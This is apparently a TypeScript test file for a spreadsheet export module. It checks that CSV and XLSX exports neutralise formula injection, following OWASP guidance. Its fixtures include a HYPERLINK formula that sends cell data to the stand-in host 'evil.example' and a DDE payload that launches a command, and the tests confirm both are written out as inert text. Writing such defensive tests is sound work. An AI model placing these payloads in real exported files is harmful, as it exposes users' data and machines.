import { read, utils } from 'xlsx';
import { captureDownloads } from '../../test-utils/capture-download';
import { parseQuotedCsv } from '../../test-utils/parse-csv';
import { exportRows } from '../export-rows';
import { toCsv } from '../csv';
import { neutraliseFormula } from '../formula-guard';
import type { ExportColumn } from '../types';

const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&C2,"Open")';

interface Row {
  title: string;
  inventors: string[];
  trl: number | null;
  delta: number;
}

const columns: ExportColumn<Row>[] = [
  { key: 'title', header: 'Title' },
  { key: 'inventors', header: 'Inventors' },
  { key: 'trl', header: 'TRL' },
  { key: 'delta', header: 'Delta' },
];

const rows: Row[] = [
  { title: FORMULA_TITLE, inventors: ['@SUM(1+1)', 'Grace'], trl: 4, delta: -3 },
  { title: 'Solar sail', inventors: ['Ada', '=cmd|" /C calc"!A0'], trl: null, delta: 2 },
];

let capture: ReturnType<typeof captureDownloads>;
beforeEach(() => {
  capture = captureDownloads();
});
afterEach(() => capture.restore());

describe('neutraliseFormula (OWASP CSV injection)', () => {
  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '-',
    '+',
    '-2+3+cmd|" /C calc"!A0',
  ])('prefixes %j with a quote', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each([
    'Solar sail',
    '',
    "'=already text",
    ' =spaced',
    'a=b',
    '-3',
    '+33',
    '-1.5',
    '-1,5',
    '2e10',
  ])('leaves %j as it is (no formula start, or a plain number)', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});

describe('CSV export of hostile cells', () => {
  it('writes the HYPERLINK title as text: a leading quote, the rest unchanged', () => {
    const csv = parseQuotedCsv(toCsv(columns, rows));
    expect(csv[1][0]).toBe(`'${FORMULA_TITLE}`);
    expect(csv[2][0]).toBe('Solar sail');
  });

  it('neutralises each item of a list and the joined cell, and keeps legitimate lists as they were', () => {
    const csv = parseQuotedCsv(toCsv(columns, rows));
    expect(csv[1][1]).toBe("'@SUM(1+1); Grace");
    expect(csv[2][1]).toBe('Ada; \'=cmd|" /C calc"!A0');
  });

  it('keeps numbers, negative ones included, and empty cells as they were', () => {
    const csv = parseQuotedCsv(toCsv(columns, rows));
    expect(csv.map((r) => [r[2], r[3]])).toEqual([
      ['TRL', 'Delta'],
      ['4', '-3'],
      ['', '2'],
    ]);
  });

  it('downloads the same neutralised text from exportRows as toCsv gives', async () => {
    await exportRows({ format: 'csv', fileName: 'tickets', sheetName: 'Tickets', columns, rows });
    expect(capture.downloads).toHaveLength(1);
    expect(await capture.downloads[0].blob.text()).toBe(toCsv(columns, rows));
  });
});

describe('XLSX export of hostile cells', () => {
  it('keeps the title exactly, in a typed string cell that holds no formula', async () => {
    await exportRows({ format: 'xlsx', fileName: 'tickets', sheetName: 'Tickets', columns, rows });
    const book = read(new Uint8Array(await capture.downloads[0].blob.arrayBuffer()), {
      type: 'array',
    });
    const sheet = book.Sheets.Tickets;
    expect(sheet.A2).toMatchObject({ t: 's', v: FORMULA_TITLE });
    expect(sheet.A2.f).toBeUndefined();
    expect(sheet.B2).toMatchObject({ t: 's', v: '@SUM(1+1); Grace' });
    expect(sheet.B2.f).toBeUndefined();
    expect(sheet.D2).toMatchObject({ t: 'n', v: -3 });
    expect(utils.sheet_to_json(sheet, { header: 1, defval: '' })[1]).toEqual([
      FORMULA_TITLE,
      '@SUM(1+1); Grace',
      4,
      -3,
    ]);
  });
});
